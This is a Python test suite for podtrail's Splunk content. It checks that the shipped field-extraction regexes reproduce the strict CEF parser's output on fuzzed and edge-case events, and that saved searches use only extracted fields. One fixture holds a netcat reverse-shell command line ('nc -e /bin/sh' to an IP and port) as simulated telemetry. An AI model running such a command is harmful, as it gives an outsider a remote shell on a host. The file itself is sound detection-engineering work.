"""The shipped Splunk field extraction (siem_content/splunk/{props,transforms}.conf) reads
podtrail's CEF exactly, and the shipped searches only use fields it produces.

The REGEX lines are taken from transforms.conf as shipped and applied with Python's ``re`` the
way Splunk applies a ``REPORT-`` transform with ``FORMAT = $1::$2``: repeatedly, left to
right, each match starting where the previous one ended (the regexes use only syntax that
PCRE and ``re`` read the same way: classes, lazy ``.*?``, a fixed-width lookbehind, a
lookahead, ``\\x20``, ``(?P<name>...)``). The input is what reaches Splunk: podtrail's real
``format_cef`` output behind a syslog header, encoded as the syslog output encodes it (UTF-8,
lone surrogates from undecodable bytes become ``?``).

What Splunk shows, precisely: for every extension key podtrail wrote, one field of that exact
name whose value is the key's text as it stands in the event, i.e. still CEF-escaped; Splunk
does not unescape, so a ``=`` in a value shows as ``\\=``, a backslash as ``\\\\``, a line
feed as the two characters ``\\n`` and a carriage return as ``\\r``. Applying CEF unescaping
to that value gives exactly what podtrail's strict parser (``podtrail.formatters.parse``)
returns for the key, and re-escaping the parser's value gives exactly Splunk's. No other
field is produced. TAB, ``|``, spaces (leading, trailing, doubled), non-ASCII text and
``key=`` text inside a value stay inside the value. Header fields come out as ``cef_*``,
with header escapes (``\\|``, ``\\\\``) also left in place.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from podtrail.formatters.cef import escape_value, format_cef
from podtrail.formatters.parse import parse_cef
from podtrail.model.event import finalize, new_event
from podtrail.model.fields import FIELDS, FIELDS_LIST, FieldType, Kind
from podtrail.outputs.syslog import rfc3164, rfc5424

ROOT = Path(__file__).resolve().parents[2]
SPLUNK = ROOT / "siem_content" / "splunk"
EXAMPLES = int(os.environ.get("PODTRAIL_HYPOTHESIS_EXAMPLES", "300"))

_PIECES = [*"ab =|\\\t\n\r\x00\x1b\x7f\u00e9\u2028\U0001f600\udcff", "\\xff", "CEF:0|", " key=", " cs1=x", " rt=1",
           "LEEF:2.0|", "\\=", "  ", "a=b c=d", "=", "x\\", " _=", " 9="]
hostile = st.lists(st.sampled_from(_PIECES), max_size=40).map("".join)


# ---- the shipped configuration -------------------------------------------------------------

def conf(path: Path) -> dict[str, dict[str, str]]:
    """A .conf file as Splunk reads it: [stanza] then key = value (one line each here)."""
    out: dict[str, dict[str, str]] = {}
    stanza: dict[str, str] | None = None
    lines = path.read_text().split("\n")
    i = 0
    while i < len(lines):
        line = lines[i]
        while line.endswith("\\") and i + 1 < len(lines):  # continuation lines
            i += 1
            line = line[:-1] + "\n" + lines[i]
        i += 1
        s = line.strip()
        if not s or s.startswith("#"):
            continue
        if s.startswith("[") and s.endswith("]"):
            stanza = out.setdefault(s[1:-1], {})
            continue
        assert stanza is not None, f"{path.name}: setting outside a stanza: {s!r}"
        key, sep, value = line.partition("=")
        assert sep, f"{path.name}: not key = value: {s!r}"
        stanza[key.strip()] = value.strip()
    return out


TRANSFORMS = conf(SPLUNK / "transforms.conf")
PROPS = conf(SPLUNK / "props.conf")["podtrail:cef"]
EXT = re.compile(TRANSFORMS["podtrail_cef_extension"]["REGEX"])
HEADER = re.compile(TRANSFORMS["podtrail_cef_header"]["REGEX"])
LABELS = {f.cef: f.cef_label for f in FIELDS_LIST if f.cef and f.cef_label}


def splunk_fields(raw: str) -> dict[str, list[str]]:
    """What the REPORT- line yields on ``raw``: header fields, then every $1::$2 match (MV_ADD)."""
    out: dict[str, list[str]] = {}
    h = HEADER.search(raw)
    assert h is not None, raw
    for k, v in h.groupdict().items():
        out[k] = [v]
    for m in EXT.finditer(raw):
        out.setdefault(m.group(1), []).append(m.group(2))
    return out


def cef_unescape(v: str) -> str:
    return re.sub(r"\\(.)", lambda m: {"n": "\n", "r": "\r"}.get(m.group(1), m.group(1)), v)


def wire(msg: str) -> str:
    """The CEF text as it reaches Splunk (the syslog output's encoding)."""
    return msg.encode("utf-8", "replace").decode("utf-8")


def check(ev: dict) -> None:
    cef = wire(format_cef(ev))
    header, strict = parse_cef(cef)
    for raw in (cef, wire(rfc5424(format_cef(ev)).decode()), wire(rfc3164(format_cef(ev)).decode())):
        got = splunk_fields(raw)
        ext = {k: v for k, v in got.items() if not k.startswith("cef_")}
        assert set(ext) == set(strict), (raw, set(ext) ^ set(strict))
        for key, values in ext.items():
            assert len(values) == 1, (key, values)  # podtrail never repeats a key
            assert cef_unescape(values[0]) == strict[key], (key, values[0], strict[key])
            assert values[0] == escape_value(strict[key]), key
        hdr = [got[k][0] for k in ("cef_version", "cef_device_vendor", "cef_device_product", "cef_device_version",
                                   "cef_signature_id", "cef_name", "cef_severity")]
        assert ["CEF:" + hdr[0], *(re.sub(r"\\([\\|])", r"\1", h) for h in hdr[1:])] == header
    # every key Splunk can see is one podtrail declares (or a csN label)
    declared = {f.cef for f in FIELDS_LIST if f.cef} | {f"{k}Label" for k in LABELS}
    assert set(strict) <= declared


# ---- extraction = strict parser ------------------------------------------------------------

def _process(comm: str, arg: str, path: str, label: str) -> dict:
    return finalize(new_event(
        Kind.PROCESS, "exec", pid=42, ppid=1, tid=42, uid=0, gid=0, auid=4294967295, user=label, comm=comm, path=path,
        argv=["/bin/sh", arg], cmdline=f"/bin/sh {arg}", cwd=f"/w {arg}", parent_path=path, parent_cmdline=arg,
        ancestors=[{"pid": 1, "path": path, "cmdline": arg}], stdin="socket", drift=True, drift_reason="memfd",
        container_id="a" * 64, container_name=label, image=f"reg.example/{label}:1", image_digest="sha256:" + "b" * 64,
        pod_name=label, pod_uid="u-1", namespace=arg, workload_kind="Deployment", workload_name=label,
        service_account=label, pod_labels={"app": label, arg: path}, pod_ips=["10.0.0.5"], cluster_name=comm,
        node_name=label, privileged=False, host_network=True, metadata_source="api", source="ebpf"))


@settings(max_examples=EXAMPLES, deadline=None)
@given(hostile, hostile, hostile, hostile)
def test_extraction_equals_strict_parser_on_hostile_events(comm: str, arg: str, path: str, label: str) -> None:
    check(_process(comm, arg, path, label))


def test_extraction_on_every_kind_and_edge() -> None:
    evil = "a=b c\\=d \\\\= e f=\tg|h \\ x\u00e9\U0001f600\udcff key=v  "
    events = [
        _process("nc", "-e /bin/sh 10.0.0.1 4444", "/tmp/x y", "web"),
        _process(" lead", "trail ", "/a b=c/d e=f", "=x"),
        _process("\\", "\\", "\\\\", "\\="),
        _process(evil, evil, evil, evil),
        _process("x", "y" * 9000, "/" + "\\" * 5000, "z"),  # cut at the CEF length limits, visibly
        finalize(new_event(Kind.SOCKET, "connect", pid=7, comm="curl", path="/usr/bin/curl", cmdline="curl http://a/?x=1 y",
                           family=10, protocol=6, transport="tcp", direction="outbound", local_address="fd00::1",
                           local_port=40000, remote_address="fd00::2", remote_port=443, remote_service="default/kubernetes",
                           remote_pod="api-0", remote_namespace="kube system", remote_workload="StatefulSet/api",
                           container_id="c" * 64, result=-111, source="ebpf")),
        finalize(new_event(Kind.SOCKET, "connect", pid=8, family=1, socket_path="/run/containerd/containerd.sock",
                           direction="outbound", sensitive="runtime_socket", container_id="c" * 64, source="auditd")),
        finalize(new_event(Kind.FILE, "rename", pid=9, comm="mv", target_path="/etc/cron.d/job x=1",
                           old_path="/tmp/a\nb\rc", flags=577, mode=0o4755, sensitive="", path_unresolved=False,
                           container_id="d" * 64, source="ebpf")),
        finalize(new_event(Kind.FILE, "read", pid=10, comm="cat", target_path="rel/\udcfe\udcff",
                           path_unresolved=True, sensitive="shadow", source="auditd")),
        finalize(new_event(Kind.AGENT, "health", message="ok=1 lost=0\nsources: ebpf=up audit=down", dropped_before=3,
                           source="procfs")),
    ]
    for ev in events:
        check(ev)


def test_tricky_shapes_by_hand() -> None:
    # A value ending in an escaped backslash right before a key, a value of only spaces, "key="
    # text after an escaped "=", doubled and trailing spaces, a key made of digits and "_".
    ext = "externalId=1 cmdline=x\\\\ act=exec msg=   sproc=a \\= b=c cs1=  two  spaces  _9=\\n"
    msg = "CEF:0|podtrail|podtrail|1|process:exec|Process executed|3|" + ext
    got = {k: v[0] for k, v in splunk_fields(msg).items() if not k.startswith("cef_")}
    assert got == {"externalId": "1", "cmdline": "x\\\\", "act": "exec", "msg": "  ", "sproc": "a \\=", "b": "c",
                   "cs1": "  two  spaces ", "_9": "\\n"}
    assert {k: cef_unescape(v) for k, v in got.items()} == parse_cef(msg)[1]


# ---- props.conf ----------------------------------------------------------------------------

def test_props_settings() -> None:
    assert PROPS["KV_MODE"] == "none" and PROPS["SHOULD_LINEMERGE"] == "false"
    assert [t.strip() for t in PROPS["REPORT-podtrail_cef"].split(",")] == ["podtrail_cef_header", "podtrail_cef_extension"]
    ext = TRANSFORMS["podtrail_cef_extension"]
    assert ext["FORMAT"] == "$1::$2" and ext["MV_ADD"] == "true" and ext["CLEAN_KEYS"] == "false"
    # FIELDALIAS = the labels declared for cs1..cs6
    aliases = dict(re.findall(r"(\w+) AS (\w+)", PROPS["FIELDALIAS-podtrail_cef_labels"]))
    assert aliases == LABELS and sorted(LABELS) == [f"cs{i}" for i in range(1, 7)]


def test_timestamp_is_rt_in_epoch_ms() -> None:
    assert PROPS["TIME_FORMAT"] == "%s%3N" and PROPS["MAX_TIMESTAMP_LOOKAHEAD"] == "13"
    ev = _process("x", "rt=5 a", "/p", "l")
    ev["time_ns"] = 1_700_000_000_123_456_789
    raw = rfc5424(format_cef(ev), ts_ns=1_800_000_000_000_000_000).decode()
    m = re.search(PROPS["TIME_PREFIX"], raw)
    assert m is not None and raw[m.end():m.end() + 13] == "1700000000123"


def test_truncate_holds_the_largest_possible_message() -> None:
    # every key at its CEF limit, every character 4 bytes of UTF-8 or escaped (2 bytes)
    worst = 200 + sum(len(f.cef) + 2 + (4 * f.cef_max if f.type in (FieldType.TEXT, FieldType.JSON) else 24)
                      + (len(f.cef) + 7 + len(f.cef_label) if f.cef_label else 0) for f in FIELDS_LIST if f.cef)
    assert int(PROPS["TRUNCATE"]) >= worst
    big = _process("\U0001f600" * 20, "\U0001f600" * 5000, "\\" * 5000, "=" * 5000)
    assert len(rfc5424(format_cef(big))) <= worst


# ---- savedsearches.conf uses only fields the extraction produces -----------------------------

_QUOTED = re.compile(r'"(?:[^"\\]|\\.)*"')
_COMPARE = re.compile(r"(?<![\w.])([A-Za-z_]\w*)\s*(?:!=|>=|<=|=|>|<|\s+IN\s*\()")


def search_fields(search: str) -> tuple[set[str], set[str]]:
    """(fields a search reads, fields its own commands create) from one SPL search."""
    text = _QUOTED.sub('""', search).replace("\\\n", " ").replace("[", "|").replace("]", "|")
    used: set[str] = set()
    made: set[str] = set()
    for seg in (s.strip() for s in text.split("|")):
        cmd, _, rest = seg.partition(" ")
        if cmd in ("", "multisearch"):
            continue
        if cmd == "eval":
            made |= set(re.findall(r"(\w+)\s*=", rest))
        elif cmd == "rename":
            for src, dst in re.findall(r"(\w+)\s+as\s+(\w+)", rest, re.I):
                used.add(src)
                made.add(dst)
        elif cmd == "bin":
            used.add(rest.split()[0])
        elif cmd == "stats":
            used |= set(re.findall(r"\w+\((\w+)\)", rest))
            made |= set(re.findall(r"\bas\s+(\w+)", rest, re.I))
            by = re.search(r"\bby\s+(.*)$", rest)
            used |= set(by.group(1).split()) if by else set()
        elif cmd == "search":
            used |= set(_COMPARE.findall(rest))
        else:  # the first segment: an implicit search
            used |= set(_COMPARE.findall(seg))
    return used, made


def test_savedsearches_use_only_extracted_fields() -> None:
    searches = [s["search"] for s in conf(SPLUNK / "savedsearches.conf").values() if "search" in s]
    assert len(searches) >= 40
    cef_keys = {f.cef for f in FIELDS_LIST if f.cef}
    allowed = cef_keys | set(LABELS.values())
    seen: set[str] = set()
    for search in searches:
        used, made = search_fields(search)
        reads = used - made - {"sourcetype", "_time"}
        assert reads, search
        assert reads <= allowed, (reads - allowed, search)
        seen |= reads
    assert {"cat", "act", "cs4", "processPath", "cmdline", "filePath", "sproc", "remotePort", "podUid"} <= seen
    # and the declaration agrees on what those keys mean
    assert FIELDS["container_id"].cef == "cs4" and FIELDS["path"].cef == "processPath"
